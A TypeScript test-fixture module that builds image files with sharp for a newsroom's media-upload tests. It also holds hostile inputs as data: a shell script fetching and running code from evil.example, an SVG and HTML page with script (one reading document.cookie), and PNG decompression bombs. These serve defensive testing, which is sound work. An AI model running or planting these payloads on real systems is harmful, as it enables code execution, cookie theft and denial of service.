import { createDeflate, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/**
 * Real image files made with sharp for the media tests: small, so that AVIF encoding stays quick,
 * and each built to show one thing (orientation, alpha, metadata, a format).
 */

/**
 * A JPEG stored sideways (EXIF orientation 6: turn a quarter clockwise to view) with GPS and camera
 * metadata. Stored as `width`×`height`, red on the left half and blue on the right, so once turned
 * upright it is `height` wide and `width` tall with red on top and blue below.
 */
export async function sidewaysJpegWithGps(width = 400, height = 240): Promise<Buffer> {
  const half = Math.floor(width / 2);
  const red = await sharp({ create: { width: half, height, channels: 3, background: '#d01010' } }).png().toBuffer();
  return sharp({ create: { width, height, channels: 3, background: '#1020d0' } })
    .composite([{ input: red, left: 0, top: 0 }])
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'Midad Test Camera', Model: 'MT-1', Artist: 'Photographer Name' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '33/1 30/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '36/1 17/1 0/1' },
    })
    .toBuffer();
}

/** A half-transparent PNG (alpha channel). */
export async function translucentPng(width = 60, height = 40): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 20, g: 160, b: 60, alpha: 0.5 } } }).png().toBuffer();
}

/** A WebP photo-sized wider than the smallest variant. */
export async function webpImage(width = 360, height = 200): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#e0a030' } }).webp().toBuffer();
}

/** A small AVIF. */
export async function avifImage(width = 30, height = 20): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#3060a0' } }).avif({ effort: 0 }).toBuffer();
}

/** A one-pixel PNG. */
export async function onePixelPng(): Promise<Buffer> {
  return sharp({ create: { width: 1, height: 1, channels: 3, background: '#000000' } }).png().toBuffer();
}

/** A plain JPEG, each `seed` a different file (and so a different upload). */
export async function plainJpeg(width: number, height: number, seed = 0): Promise<Buffer> {
  const colour = { r: (seed * 37) % 256, g: (seed * 91 + 40) % 256, b: (seed * 13 + 90) % 256 };
  return sharp({ create: { width, height, channels: 3, background: colour } }).jpeg().toBuffer();
}

/** A GIF: a real image, but not a format the newsroom accepts. */
export async function gifImage(): Promise<Buffer> {
  return sharp({ create: { width: 8, height: 8, channels: 3, background: '#ff0000' } }).gif().toBuffer();
}

/** The first half of a real JPEG: the header reads, the pixels stop early. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await plainJpeg(300, 200, 7);
  return whole.subarray(0, Math.floor(whole.length / 2));
}

/** A shell script, as someone might name "photo.jpg". */
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');

/** An SVG with a script, and an HTML page: both text that a browser would run if served as a page. */
export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>alert(2)</script></svg>',
);
export const HTML_PAGE = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');

/**
 * A decompression bomb in a few hundred bytes: a PNG whose header declares 30000×30000 pixels
 * (900 megapixels, 2.7 GB decoded), followed by a little compressed data.
 */
export function declaredBombPng(width = 30_000, height = 30_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  // One filtered row of zeros; a decoder that believed the header would go on to allocate the rest.
  const idat = deflateSync(Buffer.alloc(width * 3 + 1));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A real, complete and valid PNG of 8000×8000 black grey-scale pixels (64 megapixels) that
 * compresses to ~300 KB: every row is written and compressed, a few at a time, so nothing big is held.
 */
export async function realBombPng(side = 8000): Promise<Buffer> {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // grey-scale
  const deflate = createDeflate({ level: 1 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  // Rows are a filter byte (0) and the row's pixels (0, black); 100 rows per write.
  const rows = Buffer.alloc((side + 1) * 100);
  for (let y = 0; y < side; y += 100) {
    const count = Math.min(100, side - y);
    if (!deflate.write(rows.subarray(0, (side + 1) * count))) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', Buffer.concat(chunks)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) crc = CRC_TABLE[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

/** The GPS IFD pointer tag (0x8825) as it appears in big- or little-endian EXIF. */
export function exifHasGps(exif: Buffer | undefined): boolean {
  if (!exif) return false;
  return exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));
}
